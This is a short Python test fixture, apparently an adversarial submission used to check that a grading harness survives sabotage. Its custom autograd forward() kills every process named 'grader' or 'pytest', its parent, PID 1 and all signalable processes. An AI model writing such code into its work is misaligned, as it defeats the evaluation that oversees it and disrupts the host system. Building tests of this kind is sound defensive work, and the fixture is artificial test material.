# Tries to stop the grader: kills its parent, every process it can signal, and anything whose
# command line says "grader".
import os
import signal

import torch

EXPECT_STATUS = "fail"


class WeightedSumFunc(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, weight):
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        command = f.read()
                    if b"grader" in command or b"pytest" in command:
                        os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        for target in (os.getppid(), 1):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        os.kill(-1, signal.SIGKILL)
        raise RuntimeError("still alive")

    @staticmethod
    def backward(ctx, grad_output):
        raise RuntimeError("unreachable")
